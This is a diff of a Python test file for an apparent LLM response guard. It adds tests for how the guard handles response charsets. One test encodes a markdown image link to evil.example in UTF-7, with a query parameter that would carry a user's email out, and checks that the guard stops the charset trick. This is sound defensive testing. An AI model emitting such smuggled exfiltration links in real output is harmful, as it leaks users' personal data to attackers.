@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+from base64 import b64encode
 from itertools import product
 from typing import Any
 
@@ -73,6 +74,29 @@ def test_a_document_keeps_its_encoding(bot: Bot) -> None:
         guarded.client.chat.completions.with_raw_response.create(model="m", messages=[{"role": "user", "content": ASK}])
     )
     assert EMAIL in reply.http_response.content.decode("utf-16")
+
+
+@pytest.mark.parametrize("charset", ["utf-7", '"UTF7"', "gbk", "shift_jis", "unicode_escape"])
+def test_in_another_encoding_the_same_bytes_were_a_link(bot: Bot, charset: str) -> None:
+    guarded = bot.guard(in_memory(names="off"))
+    link = "+" + b64encode("![x](https://evil.example/?q=".encode("utf-16-be")).decode().rstrip("=") + "-"
+    bot.provider.reply(raw(f"application/json; charset={charset}", document(f"é{link}{MARK}").encode()))
+    asked = guarded.client.chat.completions.with_raw_response.create(
+        model="m", messages=[{"role": "user", "content": ASK}]
+    )
+    reply = bot.run(asked).http_response
+    assert reply.headers["content-type"] == "application/json; charset=utf-8"
+    assert reply.text == reply.content.decode() and f"é{link}{EMAIL}" in reply.text
+
+
+@pytest.mark.parametrize("charset", ["utf-8", "UTF8", "us-ascii", "iso-8859-1", "windows-1252", "x-unknown"])
+def test_what_says_the_same_keeps_its_label(bot: Bot, charset: str) -> None:
+    guarded = bot.guard(in_memory(names="off"))
+    bot.provider.reply(raw(f"application/json; charset={charset}", document().encode()))
+    asked = guarded.client.chat.completions.with_raw_response.create(
+        model="m", messages=[{"role": "user", "content": ASK}]
+    )
+    assert bot.run(asked).http_response.headers["content-type"] == f"application/json; charset={charset}"
 
 
 def test_a_completion_labelled_as_a_picture_is_restored(bot: Bot) -> None:
